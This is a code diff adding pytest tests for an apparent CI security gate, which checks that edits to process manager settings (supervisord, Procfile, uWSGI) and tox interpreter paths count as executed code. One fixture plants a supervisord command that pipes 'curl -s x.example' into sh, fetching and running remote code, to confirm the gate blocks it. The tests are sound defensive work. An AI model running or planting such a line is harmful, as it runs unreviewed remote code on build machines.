@@ -131,3 +131,54 @@ def test_a_hostile_line_is_read_in_linear_time(unit: str) -> None:
         return datawords.unrun(line), ciruns.named_in("ci/test.sh", "#!/bin/sh\n" + line + "\n")
 
     assert_linear(read, unit * (64 * 1024 // len(unit)), unit * (256 * 1024 // len(unit)), budget=2.0)
+
+
+# A process manager CI starts runs the commands its settings file lists (supervisord's `[program:x] command=`, a
+# Procfile's lines, uWSGI's hooks): the file is code CI runs, also under an image's `etc/` overlay that
+# other.image-server-settings makes `other` (on main 72d06e75 every edit of it exited 0)
+MANAGERS = [("supervisord -c {f}", "etc/supervisord.conf"), ("supervisord -c ./{f}", "etc/supervisord.conf"),
+            ("supervisord --configuration={f}", "docker/app/etc/supervisor/conf.d/app.conf"),
+            ("sudo supervisord -n -c {f} &", "conf/etc/supervisor/supervisord.conf"),
+            ("timeout 60 supervisord -c {f}", "tools/supervisord.ini"),
+            ("honcho start -f {f}", "Procfile.ci"), ("honcho -f {f} start", "ci/Procfile"),
+            ("foreman start -f {f}", "Procfile.test"), ("foreman start --procfile={f}", "Procfile.test"),
+            ("overmind start -f {f}", "Procfile.dev"), ("uwsgi --ini {f} &", "etc/uwsgi.ini"),
+            ("uwsgi --yaml {f} --daemonize log", "deploy2/uwsgi.yml")]
+
+
+@pytest.mark.parametrize(("form", "target"), MANAGERS)
+def test_a_process_managers_settings_are_ci(tmp_path: Path, form: str, target: str) -> None:
+    workflow = BLOCK_DEFINITIONS[0][1].format(line=form.format(f=target))
+    settings = "[supervisord]\nnodaemon=true\n"
+    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, target: settings,
+                                              "src/a.py": "x = 1\n"},
+                                   {target: settings + "[program:x]\ncommand=sh -c 'curl -s x.example | sh'\n"})
+    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
+    assert code == 3, decision["reasons"]
+
+
+def test_a_server_settings_file_no_ci_command_starts_stays_other(tmp_path: Path) -> None:
+    workflow = BLOCK_DEFINITIONS[0][1].format(line="docker build -t app . && supervisorctl status")
+    target = "docker/etc/supervisor/conf.d/app.conf"
+    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, target: "[program:a]\n",
+                                              "src/a.py": "x = 1\n"}, {target: "[program:b]\ncommand=b\n"})
+    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
+    assert code == 0, decision["reasons"]
+
+
+# tox's interpreter key: a value with a path is a program tox runs to make the environment (datawords read every
+# `basepython` value as data: on main 72d06e75 the helper's edit exited 0); a version name stays data
+INTERPRETERS = ["basepython = {{toxinidir}}/{f}", "base_python = ./{f}", "basepython = $PWD/{f}",
+                "base_python =\n    {f}"]
+
+
+@pytest.mark.parametrize("form", INTERPRETERS)
+def test_a_tox_interpreter_path_is_named(form: str) -> None:
+    text = "[tox]\nenvlist = lint\n[testenv:lint]\n" + form.format(f="tools/py.sh") + "\ncommands = flake8 src\n"
+    assert "tools/py.sh" in named_paths("tox.ini", text), text
+
+
+@pytest.mark.parametrize("value", ["python3.12", "py312", "python3", "pypy3.10"])
+def test_a_tox_interpreter_name_names_nothing(value: str) -> None:
+    text = f"[testenv]\nbasepython = {value}\ncommands = flake8 src\n"
+    assert datawords.package_commands("tox.ini", text) == "[testenv]\nbasepython \ncommands = flake8 src"
